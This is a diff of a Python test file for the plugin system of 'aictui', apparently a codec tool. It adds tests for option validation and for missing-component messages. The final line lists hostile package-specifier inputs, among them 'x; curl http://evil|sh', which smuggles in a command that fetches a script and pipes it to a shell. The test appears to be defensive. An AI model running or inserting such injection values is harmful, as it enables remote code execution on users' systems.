@@ -8,6 +8,7 @@ from aictui.codec.info import ComponentReference, ModelReference
 from aictui.codec.settings import Settings
 from aictui.errors import MissingComponentError
 from aictui.network.base import OperatingPoint
+from aictui.options import OptionValue
 from aictui.plugins import PluginSource, Registry
 from tests.linear_model import linear_info
 
@@ -71,7 +72,7 @@ def register_entropy_coders(register):
     ("coder", "package", "way"),
     [
         ("raw", "", "upgrade aictui"),
-        ("zap", "", "get a newer file of plugin fast"),
+        ("zap", "", "get another file of plugin fast"),
         ("zap", "aictui-zap==9", "install it with `aictui plugins install aictui-zap==9`"),
     ],
 )
@@ -83,6 +84,36 @@ def test_a_component_that_is_too_old_is_to_be_had_newer_where_it_came_from(
         ComponentReference("entropy coder", coder, 9, package, {}), PluginSource("fast", str(tmp_path / "fast.py"))
     )
     assert line == f"needs entropy coder {coder} version 9, and version 1 is installed: {way}"
+
+
+OPTIONED = "from aictui.options import Option\n" + FILE.replace(
+    'id = "zap"', 'id = "zap"; options = (Option("depth", "int", 5, "how deep", minimum=3, maximum=9),)'
+)
+
+
+@pytest.mark.parametrize(
+    ("options", "problem"),
+    [
+        ({"depth": 4}, None),
+        ({"level": 4}, "it has no option 'level'; its options: depth"),
+        ({"depth": 1}, "option depth takes a whole number from 3 to 9, not 1"),
+    ],
+)
+@pytest.mark.parametrize(
+    ("package", "way"),
+    [
+        ("", "get another file of plugin fast"),
+        ("aictui-zap==9", "install it with `aictui plugins install aictui-zap==9`"),
+    ],
+)
+def test_a_component_that_has_other_options_by_now_is_to_be_had_as_it_was(
+    tmp_path: Path, options: dict[str, OptionValue], problem: str | None, package: str, way: str
+) -> None:
+    (tmp_path / "fast.py").write_text(OPTIONED)
+    coder = ComponentReference("entropy coder", "zap", 1, package, options)
+    found = missing(coder, PluginSource("fast", str(tmp_path / "fast.py")))
+    due = f"needs entropy coder zap with other options than it has here ({problem}): {way}"
+    assert found == ([due] if problem else [])
 
 
 @pytest.mark.parametrize("package", ["x; curl http://evil|sh", "--index-url=http://evil", "git+http://evil"])
